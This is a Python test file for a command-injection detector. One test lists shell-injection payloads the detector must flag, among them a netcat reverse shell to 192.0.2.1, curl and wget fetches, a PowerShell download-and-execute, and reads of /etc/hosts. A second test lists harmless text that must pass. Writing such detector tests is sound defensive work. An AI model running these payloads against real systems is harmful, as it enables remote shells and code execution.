from __future__ import annotations

from collections.abc import Callable

from rows import rows

from portcullis.engine.inspection.patterns.command import CLASS, PATTERNS

Ids = Callable[..., set[str]]
MINE = {pattern.id for pattern in PATTERNS}


@rows(
    "text",
    [
        "127.0.0.1; cat /etc/hosts",
        "x|nc -e /bin/sh 192.0.2.1 4444",
        "a && whoami",
        "`id`",
        "$(curl http://192.0.2.1/x)",
        "; wget http://192.0.2.1/x.sh",
        "& dir c:\\",
        "x%0als -la",
        "| base64 -d /tmp/x",
        "a';sleep 10;'",
        "|uname -a",
        "x; ping -c 3 192.0.2.1",
        "() { :;}; echo vulnerable",
        "powershell -enc SQBFAFgA",
        "bash -c 'id'",
        "IEX (New-Object Net.WebClient).DownloadString('http://x')",
        "cat${IFS}/etc/hosts",
    ],
)
def test_a_command_in_a_value_is_found(text: str, ids: Ids) -> None:
    assert ids(text) & MINE


@rows(
    "text",
    [
        "Tom & Jerry; cats and dogs",
        "Please find the file & sort it; then call me",
        "R&D | Sales | Support",
        "It costs $5 (or so); date it back",
        "Use the `date` field; the `id` is optional",
        "black & white; more or less",
        "who | what | where",
        "10 < 20; 30 > 20",
        "a; b; c",
        "Sleep well & wake up; time flies",
        "man; woman; child",
        "AT&T; T-Mobile",
        "top 10 & more",
    ],
)
def test_what_people_write_about_commands_passes(text: str, ids: Ids) -> None:
    assert not ids(text) & MINE


def test_the_class_is_known_by_its_number() -> None:
    assert CLASS.cwe == 78
